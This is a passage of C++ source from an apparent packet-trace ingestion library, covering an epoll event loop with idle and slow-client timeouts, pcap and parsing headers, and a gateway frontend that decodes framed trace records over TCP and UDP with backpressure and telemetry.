      return "protocol_error";
    case CloseReason::kIdleTimeout:
      return "idle_timeout";
    case CloseReason::kSlowClient:
      return "slow_client";
    case CloseReason::kShutdown:
      return "shutdown";
    case CloseReason::kSocketError:
      return "socket_error";
  }
  return "unknown";
}

EventLoop::Options EventLoop::Options::normalized(Options opts,
                                                  std::string* diagnostic) {
  OptionNormalizer norm("netio.event_loop");
  norm.clamp(opts.idle_timeout, 0.0, 3600.0, "idle_timeout");
  norm.clamp(opts.min_bytes_per_sec, 0.0, 1e9, "min_bytes_per_sec");
  norm.clamp(opts.rate_window, 0.05, 600.0, "rate_window");
  norm.clamp(opts.read_chunk, size_t{512}, size_t{1} << 24, "read_chunk");
  norm.clamp(opts.max_conn_buffer, size_t{4096}, size_t{1} << 28,
             "max_conn_buffer");
  norm.clamp(opts.poll_interval_ms, 1, 1000, "poll_interval_ms");
  norm.emit(diagnostic);
  return opts;
}

/// One registered fd: a TCP listener, an established connection, or a UDP
/// socket. Connections carry the undelivered stream buffer (bytes the
/// protocol has not consumed yet, addressed via `off`) and the activity
/// clocks the timeout sweeps run on.
struct EventLoop::Entry {
  uint64_t id = 0;
  int fd = -1;
  bool listener = false;
  bool udp = false;
  uint16_t port = 0;
  std::string peer;
  bool paused = false;
  bool peer_eof = false;  // RDHUP seen while paused; drain on resume
  std::vector<uint8_t> buf;
  size_t off = 0;  // consumed prefix of buf
  double opened_at = 0;
  double last_activity = 0;
  double window_start = 0;
  uint64_t window_bytes = 0;
};

struct EventLoop::Impl {
  std::unordered_map<uint64_t, Entry> entries;
};

EventLoop::EventLoop(Options opts, Protocol& protocol)
    : opts_(Options::normalized(std::move(opts), nullptr)),
      protocol_(protocol),
      impl_(new Impl) {}

EventLoop::~EventLoop() {
  shutdown(/*abort_connections=*/true);
  if (epoll_fd_ >= 0) {
    ::close(epoll_fd_);
    epoll_fd_ = -1;
  }
  delete impl_;
}

Result<void> EventLoop::init() {
  if (epoll_fd_ >= 0) return {};
  epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_fd_ < 0) return sys_error("EventLoop::init", "epoll_create1");
  return {};
}

Result<uint64_t> EventLoop::add_socket(int fd, bool listener, bool udp,
                                       uint16_t port) {
  const uint64_t id = next_id_++;
  epoll_event ev{};
  ev.events = EPOLLIN;
  if (!listener && !udp && opts_.edge_triggered) ev.events |= EPOLLET;
  if (!listener && !udp) ev.events |= EPOLLRDHUP;
  ev.data.u64 = id;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, fd, &ev) != 0) {
    ::close(fd);
    return sys_error("EventLoop::add_socket", "epoll_ctl(ADD)");
  }
  Entry e;
  e.id = id;
  e.fd = fd;
  e.listener = listener;
  e.udp = udp;
  e.port = port;
  const double now = mono_now();
  e.opened_at = e.last_activity = e.window_start = now;
  impl_->entries.emplace(id, std::move(e));
  return id;
}

Result<uint64_t> EventLoop::listen_tcp(const std::string& addr,
                                       uint16_t port) {
  if (epoll_fd_ < 0)
    return Error::make("EventLoop::listen_tcp", "init() not called");
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  if (::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr) != 1)
    return Error::make("EventLoop::listen_tcp", "bad address: " + addr);
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return sys_error("EventLoop::listen_tcp", "socket");
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  if (::bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0) {
    ::close(fd);
    return sys_error("EventLoop::listen_tcp", "bind");
  }
  if (::listen(fd, 128) != 0) {
    ::close(fd);
    return sys_error("EventLoop::listen_tcp", "listen");
  }
  socklen_t len = sizeof(sa);
  ::getsockname(fd, reinterpret_cast<sockaddr*>(&sa), &len);
  return add_socket(fd, /*listener=*/true, /*udp=*/false, ntohs(sa.sin_port));
}

Result<uint64_t> EventLoop::open_udp(const std::string& addr, uint16_t port,
                                     size_t rcvbuf_bytes) {
  if (epoll_fd_ < 0)
    return Error::make("EventLoop::open_udp", "init() not called");
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  if (::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr) != 1)
    return Error::make("EventLoop::open_udp", "bad address: " + addr);
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return sys_error("EventLoop::open_udp", "socket");
  if (rcvbuf_bytes != 0) {
    const int want = static_cast<int>(rcvbuf_bytes);
    ::setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &want, sizeof(want));
  }
  if (::bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0) {
    ::close(fd);
    return sys_error("EventLoop::open_udp", "bind");
  }
  socklen_t len = sizeof(sa);
  ::getsockname(fd, reinterpret_cast<sockaddr*>(&sa), &len);
  return add_socket(fd, /*listener=*/false, /*udp=*/true,
                    ntohs(sa.sin_port));
}

uint16_t EventLoop::port_of(uint64_t id) const {
  auto it = impl_->entries.find(id);
  return it == impl_->entries.end() ? 0 : it->second.port;
}

void EventLoop::pause(uint64_t conn) {
  auto it = impl_->entries.find(conn);
  if (it == impl_->entries.end() || it->second.paused) return;
  Entry& e = it->second;
  e.paused = true;
  epoll_event ev{};
  ev.events = EPOLLRDHUP;  // still notice a peer close while paused
  ev.data.u64 = conn;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, e.fd, &ev);
}

void EventLoop::resume(uint64_t conn) {
  auto it = impl_->entries.find(conn);
  if (it == impl_->entries.end() || !it->second.paused) return;
  Entry& e = it->second;
  e.paused = false;
  // Fresh grace period: the stall was our backpressure, not the client's.
  const double now = mono_now();
  e.last_activity = e.window_start = now;
  e.window_bytes = 0;
  epoll_event ev{};
  ev.events = EPOLLIN | EPOLLRDHUP;
  if (opts_.edge_triggered) ev.events |= EPOLLET;
  ev.data.u64 = conn;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, e.fd, &ev);
  // The edge that announced bytes arriving while paused has already fired;
  // deliver what we hold and drain the kernel buffer explicitly.
  deliver(e);
  if (impl_->entries.count(conn) != 0) read_stream(impl_->entries.at(conn));
}

void EventLoop::close_conn(uint64_t conn, CloseReason reason) {
  close_entry(conn, reason);
}

void EventLoop::close_entry(uint64_t id, CloseReason reason) {
  auto it = impl_->entries.find(id);
  if (it == impl_->entries.end()) return;
  const bool was_conn = !it->second.listener && !it->second.udp;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, it->second.fd, nullptr);
  ::close(it->second.fd);
  impl_->entries.erase(it);
  if (was_conn) {
    --open_conns_;
    if (reason == CloseReason::kIdleTimeout) ++idle_closed_total_;
    if (reason == CloseReason::kSlowClient) ++slow_closed_total_;
    protocol_.on_close(id, reason);
  }
}

void EventLoop::handle_accept(Entry& listener) {
  for (;;) {
    sockaddr_in sa{};
    socklen_t len = sizeof(sa);
    int fd = ::accept4(listener.fd, reinterpret_cast<sockaddr*>(&sa), &len,
                       SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (fd < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) return;
      if (errno == EINTR) continue;
      return;  // transient accept failure; the listener stays armed
    }
    const int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    auto added = add_socket(fd, /*listener=*/false, /*udp=*/false, 0);
    if (!added.ok()) continue;  // add_socket closed the fd
    const uint64_t id = added.value();
    Entry& e = impl_->entries.at(id);
    char ip[INET_ADDRSTRLEN] = {0};
    ::inet_ntop(AF_INET, &sa.sin_addr, ip, sizeof(ip));
    e.peer = std::string(ip) + ":" + std::to_string(ntohs(sa.sin_port));
    ++open_conns_;
    ++accepted_total_;
    if (!protocol_.on_open(id, e.peer))
      close_entry(id, CloseReason::kProtocolError);
  }
}

void EventLoop::deliver(Entry& conn) {
  const uint64_t id = conn.id;
  while (!conn.paused && conn.off < conn.buf.size()) {
    const size_t pending = conn.buf.size() - conn.off;
    const size_t used =
        protocol_.on_data(id, conn.buf.data() + conn.off, pending);
    if (used == kAbort) {
      close_entry(id, CloseReason::kProtocolError);
      return;
    }
    if (used == 0) break;  // incomplete frame; wait for more bytes
    conn.off += used > pending ? pending : used;
    // Compact once the consumed prefix dominates, so the buffer does not
    // grow without bound across a long-lived connection.
    if (conn.off == conn.buf.size()) {
      conn.buf.clear();
      conn.off = 0;
    } else if (conn.off > 4096 && conn.off > conn.buf.size() / 2) {
      conn.buf.erase(conn.buf.begin(),
                     conn.buf.begin() + static_cast<ptrdiff_t>(conn.off));
      conn.off = 0;
    }
  }
  // A frame the protocol cannot complete within the buffer cap will never
  // complete at all: treat it as a protocol violation, not backpressure.
  if (!conn.paused && conn.buf.size() - conn.off > opts_.max_conn_buffer)
    close_entry(id, CloseReason::kProtocolError);
}

void EventLoop::read_stream(Entry& conn) {
  const uint64_t id = conn.id;
  std::vector<uint8_t> chunk(opts_.read_chunk);
  for (;;) {
    if (conn.paused) return;  // backpressure: leave bytes in the kernel
    const ssize_t n = ::recv(conn.fd, chunk.data(), chunk.size(), 0);
    if (n > 0) {
      bytes_read_total_ += static_cast<uint64_t>(n);
      conn.window_bytes += static_cast<uint64_t>(n);
      conn.last_activity = mono_now();
      conn.buf.insert(conn.buf.end(), chunk.data(), chunk.data() + n);
      deliver(conn);
      if (impl_->entries.count(id) == 0) return;  // deliver closed it
      // Level-triggered fallback: one chunk per event; epoll re-reports.
      if (!opts_.edge_triggered) return;
      continue;
    }
    if (n == 0) {
      // Orderly EOF. Leftover unconsumed bytes mean the peer disconnected
      // mid-record — surface that as a protocol error, not a clean close.
      const bool truncated = conn.off < conn.buf.size();
      close_entry(id, truncated ? CloseReason::kProtocolError
                                : CloseReason::kPeerClosed);
      return;
    }
    if (errno == EAGAIN || errno == EWOULDBLOCK) return;
    if (errno == EINTR) continue;
    close_entry(id, CloseReason::kSocketError);
    return;
  }
}

void EventLoop::read_datagrams(Entry& sock) {
  const uint64_t id = sock.id;
  std::vector<uint8_t> chunk(opts_.read_chunk);
  // Bound one event's drain so a datagram flood cannot starve the tick and
  // the timeout sweeps (the socket stays armed; epoll re-reports).
  for (int i = 0; i < 4096; ++i) {
    const ssize_t n = ::recvfrom(sock.fd, chunk.data(), chunk.size(), 0,
                                 nullptr, nullptr);
    if (n < 0) {
      if (errno == EINTR) continue;
      return;  // EAGAIN or transient error: nothing more to drain
    }
    bytes_read_total_ += static_cast<uint64_t>(n);
    sock.last_activity = mono_now();
    protocol_.on_datagram(id, chunk.data(), static_cast<size_t>(n));
    if (impl_->entries.count(id) == 0) return;  // shut down under us
  }
}

void EventLoop::sweep_timeouts(double now) {
  std::vector<std::pair<uint64_t, CloseReason>> doomed;
  for (auto& [id, e] : impl_->entries) {
    if (e.listener || e.udp) continue;
    if (e.paused) continue;  // stalled by our backpressure, not the client
    if (opts_.idle_timeout > 0 && now - e.last_activity > opts_.idle_timeout) {
      doomed.emplace_back(id, CloseReason::kIdleTimeout);
      continue;
    }
    if (opts_.min_bytes_per_sec > 0 && now - e.window_start >= opts_.rate_window) {
      const double elapsed = now - e.window_start;
      const double rate = static_cast<double>(e.window_bytes) / elapsed;
      if (rate < opts_.min_bytes_per_sec) {
        doomed.emplace_back(id, CloseReason::kSlowClient);
        continue;
      }
      e.window_start = now;
      e.window_bytes = 0;
    }
  }
  for (const auto& [id, reason] : doomed) close_entry(id, reason);
}

Result<void> EventLoop::poll_once(int timeout_ms) {
  if (epoll_fd_ < 0)
    return Error::make("EventLoop::poll_once", "init() not called");
  epoll_event events[64];
  const int wait_ms = timeout_ms >= 0 ? timeout_ms : opts_.poll_interval_ms;
  const int n = ::epoll_wait(epoll_fd_, events, 64, wait_ms);
  if (n < 0 && errno != EINTR)
    return sys_error("EventLoop::poll_once", "epoll_wait");
  for (int i = 0; i < (n > 0 ? n : 0); ++i) {
    const uint64_t id = events[i].data.u64;
    auto it = impl_->entries.find(id);
    if (it == impl_->entries.end()) continue;  // closed earlier this cycle
    Entry& e = it->second;
    if (e.listener) {
      handle_accept(e);
      continue;
    }
    if (e.udp) {
      read_datagrams(e);
      continue;
    }
    if ((events[i].events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) !=
        0) {
      // A HUP/RDHUP still goes through read_stream: it drains whatever the
      // peer sent before closing, then sees the EOF itself.
      if (e.paused && (events[i].events & EPOLLIN) == 0 &&
          (events[i].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)) != 0) {
        // Peer finished sending while we were backpressuring them. The
        // bytes we hold (and whatever sits in the kernel buffer) are
        // still owed to the feed, so do NOT close yet: latch the EOF,
        // disarm the event so level-triggered RDHUP cannot spin, and let
        // resume() drain to the real end-of-stream.
        e.peer_eof = true;
        epoll_event ev{};
        ev.data.u64 = id;
        ::epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, e.fd, &ev);
        continue;
      }
      read_stream(e);
    }
  }
  sweep_timeouts(mono_now());
  return {};
}

void EventLoop::shutdown(bool abort_connections) {
  shutdown_ = true;
  std::vector<uint64_t> listeners;
  std::vector<uint64_t> conns;
  for (const auto& [id, e] : impl_->entries) {
    if (e.listener || e.udp)
      listeners.push_back(id);
    else
      conns.push_back(id);
  }
  for (uint64_t id : listeners) close_entry(id, CloseReason::kShutdown);
  if (abort_connections)
    for (uint64_t id : conns) close_entry(id, CloseReason::kShutdown);
}

bool EventLoop::drained() const { return shutdown_ && impl_->entries.empty(); }

size_t EventLoop::owned_fds() const {
  return impl_->entries.size() + (epoll_fd_ >= 0 ? 1 : 0);
}

}  // namespace lumen::netio
