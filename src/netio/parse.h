// Single-pass packet parsing: RawPacket bytes -> PacketView summary.
#pragma once

#include "common/result.h"
#include "netio/packet.h"

namespace lumen::netio {

/// Parse one frame. Returns an Error for truncated/malformed frames.
/// `index` is the packet's position in the original capture; it is stored
/// verbatim in the resulting view.
Result<PacketView> parse_packet(const RawPacket& pkt, LinkType link,
                                uint32_t index);

/// Parse every frame of `trace.raw` into `trace.view` in one pass, skipping
/// (and counting) malformed frames. Kept raws are compacted so raw and view
/// stay position-aligned; each view keeps its original capture index in
/// `PacketView::index`. Returns the number of skipped frames.
size_t parse_trace(Trace& trace);

/// Infer the application protocol from ports and a peek at the payload.
AppProto infer_app_proto(uint16_t src_port, uint16_t dst_port, IpProto proto,
                         std::span<const uint8_t> payload);

}  // namespace lumen::netio
