// Classic pcap (libpcap savefile) reader/writer, implemented from the file
// format specification — no libpcap dependency. Microsecond timestamps,
// little-endian on disk (we also accept big-endian files when reading).
#pragma once

#include <string>

#include "common/result.h"
#include "netio/packet.h"

namespace lumen::netio {

/// Write `trace` to `path` as a classic pcap savefile.
Result<void> write_pcap(const std::string& path, const Trace& trace);

/// Read a classic pcap savefile. Parses packets into views as well.
Result<Trace> read_pcap(const std::string& path);

}  // namespace lumen::netio
