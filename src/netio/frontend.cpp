#include "netio/frontend.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <ctime>

#include "common/options.h"

namespace lumen::netio {

namespace {

double mono_now() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + 1e-9 * static_cast<double>(ts.tv_nsec);
}

void put_u16(std::vector<uint8_t>& out, uint16_t v) {
  out.push_back(static_cast<uint8_t>(v));
  out.push_back(static_cast<uint8_t>(v >> 8));
}

void put_u32(std::vector<uint8_t>& out, uint32_t v) {
  out.push_back(static_cast<uint8_t>(v));
  out.push_back(static_cast<uint8_t>(v >> 8));
  out.push_back(static_cast<uint8_t>(v >> 16));
  out.push_back(static_cast<uint8_t>(v >> 24));
}

void put_f64(std::vector<uint8_t>& out, double v) {
  uint64_t bits;
  std::memcpy(&bits, &v, sizeof(bits));
  for (int i = 0; i < 8; ++i)
    out.push_back(static_cast<uint8_t>(bits >> (8 * i)));
}

uint32_t get_u32(const uint8_t* p) {
  return static_cast<uint32_t>(p[0]) | (static_cast<uint32_t>(p[1]) << 8) |
         (static_cast<uint32_t>(p[2]) << 16) |
         (static_cast<uint32_t>(p[3]) << 24);
}

double get_f64(const uint8_t* p) {
  uint64_t bits = 0;
  for (int i = 0; i < 8; ++i) bits |= static_cast<uint64_t>(p[i]) << (8 * i);
  double v;
  std::memcpy(&v, &bits, sizeof(v));
  return v;
}

Error sys_error(const char* where, const char* what) {
  return Error::make(where, std::string(what) + ": " + std::strerror(errno));
}

/// Blocking connect to addr:port; returns the fd or -1.
int connect_tcp(const std::string& addr, uint16_t port) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  if (::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr) != 1) return -1;
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  if (::connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0) {
    ::close(fd);
    return -1;
  }
  const int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

bool send_all(int fd, const uint8_t* data, size_t n) {
  size_t off = 0;
  while (off < n) {
    const ssize_t w = ::send(fd, data + off, n - off, MSG_NOSIGNAL);
    if (w < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    off += static_cast<size_t>(w);
  }
  return true;
}

}  // namespace

// ---------------------------------------------------------------------------
// Wire format + client helpers

void append_hello(std::vector<uint8_t>& out, uint32_t tenant, LinkType link) {
  put_u32(out, WireFormat::kMagic);
  put_u32(out, tenant);
  put_u32(out, static_cast<uint32_t>(link));
}

void append_record(std::vector<uint8_t>& out, const RawPacket& pkt,
                   uint32_t capture_index) {
  out.push_back(WireFormat::kFrame);
  out.push_back(0);
  put_u16(out, 0);
  put_u32(out, capture_index);
  put_f64(out, pkt.ts);
  put_u32(out, pkt.orig_len);
  put_u32(out, static_cast<uint32_t>(pkt.data.size()));
  out.insert(out.end(), pkt.data.begin(), pkt.data.end());
}

void append_fin(std::vector<uint8_t>& out) {
  out.push_back(WireFormat::kFin);
  out.push_back(0);
  put_u16(out, 0);
  put_u32(out, 0);
  put_f64(out, 0.0);
  put_u32(out, 0);
  put_u32(out, 0);
}

Result<void> send_trace_tcp(const std::string& addr, uint16_t port,
                            const Trace& trace, uint32_t tenant, size_t begin,
                            size_t end) {
  const int fd = connect_tcp(addr, port);
  if (fd < 0) return sys_error("send_trace_tcp", "connect");
  std::vector<uint8_t> buf;
  buf.reserve(1 << 20);
  append_hello(buf, tenant, trace.link);
  const size_t stop = end < trace.raw.size() ? end : trace.raw.size();
  bool ok = true;
  for (size_t i = begin; i < stop && ok; ++i) {
    // Mirror TraceReplaySource: a parsed trace keeps each packet's original
    // capture index in the view (what label arrays align with).
    const uint32_t idx = i < trace.view.size() ? trace.view[i].index
                                               : static_cast<uint32_t>(i);
    append_record(buf, trace.raw[i], idx);
    if (buf.size() >= (1 << 20)) {
      ok = send_all(fd, buf.data(), buf.size());
      buf.clear();
    }
  }
  if (ok) {
    append_fin(buf);
    ok = send_all(fd, buf.data(), buf.size());
  }
  ::close(fd);
  if (!ok) return sys_error("send_trace_tcp", "send");
  return {};
}

Result<void> send_trace_udp(const std::string& addr, uint16_t port,
                            const Trace& trace, uint32_t tenant, size_t begin,
                            size_t end, size_t pace_every, unsigned pace_us) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  if (::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr) != 1)
    return Error::make("send_trace_udp", "bad address: " + addr);
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return sys_error("send_trace_udp", "socket");
  std::vector<uint8_t> dgram;
  const size_t stop = end < trace.raw.size() ? end : trace.raw.size();
  size_t sent = 0;
  for (size_t i = begin; i <= stop; ++i) {
    dgram.clear();
    append_hello(dgram, tenant, trace.link);
    if (i < stop)
      append_record(dgram, trace.raw[i],
                    i < trace.view.size() ? trace.view[i].index
                                          : static_cast<uint32_t>(i));
    else
      append_fin(dgram);
    for (;;) {
      const ssize_t w =
          ::sendto(fd, dgram.data(), dgram.size(), 0,
                   reinterpret_cast<sockaddr*>(&sa), sizeof(sa));
      if (w >= 0) break;
      if (errno == EINTR) continue;
      ::close(fd);
      return sys_error("send_trace_udp", "sendto");
    }
    if (pace_every != 0 && ++sent % pace_every == 0 && pace_us != 0) {
      timespec nap{0, static_cast<long>(pace_us) * 1000};
      nanosleep(&nap, nullptr);
    }
  }
  ::close(fd);
  return {};
}

// ---------------------------------------------------------------------------
// ReplayDriver

Result<void> ReplayDriver::drive(FrameFeed& feed,
                                 const std::atomic<bool>& stop) {
  SourcePacket sp;
  while (!stop.load(std::memory_order_relaxed) && source_.next(sp)) {
    sp.tenant = tenant_;
    for (;;) {
      const FeedStatus s = feed.offer(sp);
      if (s == FeedStatus::kAccepted || s == FeedStatus::kShed) break;
      if (s == FeedStatus::kClosed) return {};
      if (!feed.wait_ready()) return {};  // kBusy: block like the old push
    }
  }
  return {};
}

// ---------------------------------------------------------------------------
// FrontendOptions

FrontendOptions FrontendOptions::normalized(FrontendOptions opts,
                                            std::string* diagnostic) {
  OptionNormalizer norm("frontend");
  norm.default_if_empty(opts.bind_address, "bind_address", "127.0.0.1");
  norm.default_if_empty(opts.instrument_prefix, "instrument_prefix",
                        "frontend.");
  norm.clamp(opts.max_frame_bytes, size_t{64}, size_t{16} << 20,
             "max_frame_bytes");
  norm.clamp(opts.pending_frames, size_t{1}, size_t{1} << 20,
             "pending_frames");
  norm.clamp(opts.min_streams, size_t{1}, size_t{1} << 20, "min_streams");
  norm.clamp(opts.udp_rcvbuf, size_t{64} << 10, size_t{64} << 20,
             "udp_rcvbuf");
  norm.clamp(opts.drain_grace, 0.05, 60.0, "drain_grace");
  std::string loop_diag;
  opts.loop = EventLoop::Options::normalized(opts.loop, &loop_diag);
  std::string mine = norm.diagnostic();
  if (!loop_diag.empty())
    mine = mine.empty() ? loop_diag : mine + "; " + loop_diag;
  if (diagnostic != nullptr) *diagnostic = mine;
  return opts;
}

// ---------------------------------------------------------------------------
// GatewayFrontend

GatewayFrontend::GatewayFrontend(FrontendOptions opts)
    : opts_(FrontendOptions::normalized(std::move(opts), nullptr)),
      loop_(opts_.loop, *this) {
  registry_ = opts_.registry != nullptr ? opts_.registry
                                        : &telemetry::Registry::process();
  const std::string& p = opts_.instrument_prefix;
  conns_accepted_ = &registry_->counter(p + "conn.accepted");
  conns_closed_ = &registry_->counter(p + "conn.closed");
  conns_timeout_ = &registry_->counter(p + "conn.idle_closed");
  conns_slow_ = &registry_->counter(p + "conn.slow_closed");
  protocol_errors_ = &registry_->counter(p + "protocol_errors");
  frames_ = &registry_->counter(p + "frames");
  fins_ = &registry_->counter(p + "fins");
  bytes_ = &registry_->counter(p + "bytes");
  shed_ = &registry_->counter(p + "shed");
  datagrams_ = &registry_->counter(p + "datagrams");
  open_conns_ = &registry_->gauge(p + "conn.open");
  staged_depth_ = &registry_->gauge(p + "staged.depth");
  staged_high_water_ = &registry_->gauge(p + "staged.high_water");
}

GatewayFrontend::~GatewayFrontend() = default;

Result<void> GatewayFrontend::bind() {
  if (bound_) return {};
  auto init = loop_.init();
  if (!init.ok()) return init.error();
  if (opts_.tcp) {
    auto lr = loop_.listen_tcp(opts_.bind_address, opts_.tcp_port);
    if (!lr.ok()) return lr.error();
    tcp_listener_ = lr.value();
    tcp_port_ = loop_.port_of(tcp_listener_);
  }
  if (opts_.udp) {
    auto ur =
        loop_.open_udp(opts_.bind_address, opts_.udp_port, opts_.udp_rcvbuf);
    if (!ur.ok()) return ur.error();
    udp_sock_ = ur.value();
    udp_port_ = loop_.port_of(udp_sock_);
    udp_state_.hello_done = true;  // per-datagram hellos; no stream state
    udp_state_.report.peer = "udp";
  }
  bound_ = true;
  return {};
}

bool GatewayFrontend::on_open(uint64_t conn, const std::string& peer) {
  telemetry::Span span(registry_, opts_.instrument_prefix + "accept", peer);
  ConnState st;
  st.report.id = conn;
  st.report.peer = peer;
  st.accepted_at = mono_now();
  conns_.emplace(conn, std::move(st));
  conns_accepted_->add(1);
  open_conns_->set(static_cast<double>(loop_.open_connections()));
  return true;
}

size_t GatewayFrontend::on_data(uint64_t conn, const uint8_t* data,
                                size_t n) {
  auto it = conns_.find(conn);
  if (it == conns_.end()) return EventLoop::kAbort;
  ConnState& st = it->second;
  size_t used = 0;
  if (!st.hello_done) {
    if (n < WireFormat::kHelloBytes) return 0;
    if (get_u32(data) != WireFormat::kMagic) return EventLoop::kAbort;
    st.tenant = get_u32(data + 4);
    const uint32_t link = get_u32(data + 8);
    if (link != static_cast<uint32_t>(opts_.link)) return EventLoop::kAbort;
    st.report.tenant = st.tenant;
    st.hello_done = true;
    used = WireFormat::kHelloBytes;
  }
  const size_t rec =
      decode_records(conn, st, data + used, n - used);
  if (rec == EventLoop::kAbort) return EventLoop::kAbort;
  return used + rec;
}

size_t GatewayFrontend::decode_records(uint64_t conn, ConnState& st,
                                       const uint8_t* data, size_t n) {
  size_t off = 0;
  while (n - off >= WireFormat::kRecordBytes) {
    const uint8_t* h = data + off;
    const uint8_t kind = h[0];
    if (kind > WireFormat::kFin) return EventLoop::kAbort;
    const uint32_t incl_len = get_u32(h + 20);
    if (incl_len > opts_.max_frame_bytes) return EventLoop::kAbort;
    if (n - off < WireFormat::kRecordBytes + incl_len) break;
    if (kind == WireFormat::kFin) {
      if (!st.report.fin) {
        st.report.fin = true;
        ++streams_finished_;
        fins_->add(1);
      }
      off += WireFormat::kRecordBytes;
      continue;
    }
    SourcePacket sp;
    sp.capture_index = get_u32(h + 4);
    sp.tenant = st.tenant;
    sp.pkt.ts = get_f64(h + 8);
    sp.pkt.orig_len = get_u32(h + 16);
    const uint8_t* frame = h + WireFormat::kRecordBytes;
    sp.pkt.data.assign(frame, frame + incl_len);
    off += WireFormat::kRecordBytes + incl_len;
    ++st.report.frames;
    st.report.bytes += incl_len;
    frames_->add(1);
    bytes_->add(incl_len);
    route_frame(conn, st, std::move(sp));
    if (feed_closed_) return EventLoop::kAbort;
    // Backpressure paused this connection: stop decoding so the rest of
    // the bytes stay buffered (bounded) until the feed has room.
    if (conn != udp_sock_ && !opts_.shed_when_saturated &&
        st.staged.size() >= opts_.pending_frames)
      break;
  }
  return off;
}

void GatewayFrontend::route_frame(uint64_t conn, ConnState& st,
                                  SourcePacket&& sp) {
  if (feed_ == nullptr || feed_closed_) return;
  // Preserve arrival order: once anything is staged for this connection,
  // new frames queue behind it rather than jumping to the feed.
  if (st.staged.empty()) {
    const FeedStatus s = feed_->offer(sp);
    if (s == FeedStatus::kAccepted || s == FeedStatus::kShed) return;
    if (s == FeedStatus::kClosed) {
      feed_closed_ = true;
      return;
    }
  }
  // kBusy (or already staging): stage up to the cap, then pause / shed.
  if (st.staged.size() >= opts_.pending_frames) {
    const bool is_udp = conn == udp_sock_;
    if (opts_.shed_when_saturated || is_udp) {
      ++st.report.shed;
      shed_->add(1);
      feed_->account_shed(1);
      return;
    }
    // TCP lossless path: pause below (decode loop stops); still stage
    // this frame — it is already decoded and owed to the feed.
  }
  st.staged.push_back(std::move(sp));
  ++staged_total_;
  staged_depth_->set(static_cast<double>(staged_total_));
  staged_high_water_->update_max(static_cast<double>(staged_total_));
  if (conn != udp_sock_ && !opts_.shed_when_saturated &&
      st.staged.size() >= opts_.pending_frames)
    loop_.pause(conn);
}

void GatewayFrontend::on_datagram(uint64_t sock, const uint8_t* data,
                                  size_t n) {
  datagrams_->add(1);
  if (n < WireFormat::kHelloBytes + WireFormat::kRecordBytes ||
      get_u32(data) != WireFormat::kMagic ||
      get_u32(data + 8) != static_cast<uint32_t>(opts_.link)) {
    protocol_errors_->add(1);
    return;
  }
  const uint32_t tenant = get_u32(data + 4);
  const uint8_t* h = data + WireFormat::kHelloBytes;
  const uint8_t kind = h[0];
  const uint32_t incl_len = get_u32(h + 20);
  if (kind > WireFormat::kFin || incl_len > opts_.max_frame_bytes ||
      n < WireFormat::kHelloBytes + WireFormat::kRecordBytes + incl_len) {
    protocol_errors_->add(1);
    return;
  }
  if (kind == WireFormat::kFin) {
    ++udp_fins_;
    ++streams_finished_;
    fins_->add(1);
    return;
  }
  SourcePacket sp;
  sp.capture_index = get_u32(h + 4);
  sp.tenant = tenant;
  sp.pkt.ts = get_f64(h + 8);
  sp.pkt.orig_len = get_u32(h + 16);
  const uint8_t* frame = h + WireFormat::kRecordBytes;
  sp.pkt.data.assign(frame, frame + incl_len);
  ++udp_state_.report.frames;
  udp_state_.report.bytes += incl_len;
  frames_->add(1);
  bytes_->add(incl_len);
  route_frame(sock, udp_state_, std::move(sp));
}

void GatewayFrontend::on_close(uint64_t conn, CloseReason reason) {
  auto it = conns_.find(conn);
  if (it == conns_.end()) return;
  finalize_conn(conn, it->second, reason);
  conns_.erase(it);
  conns_closed_->add(1);
  if (reason == CloseReason::kIdleTimeout) conns_timeout_->add(1);
  if (reason == CloseReason::kSlowClient) conns_slow_->add(1);
  if (reason == CloseReason::kProtocolError) protocol_errors_->add(1);
  open_conns_->set(static_cast<double>(loop_.open_connections()));
}

void GatewayFrontend::finalize_conn(uint64_t conn, ConnState& st,
                                    CloseReason reason) {
  (void)conn;
  // A clean close without a FIN record still ends the stream (EOF is the
  // framing boundary for TCP); count it toward the drain goal once.
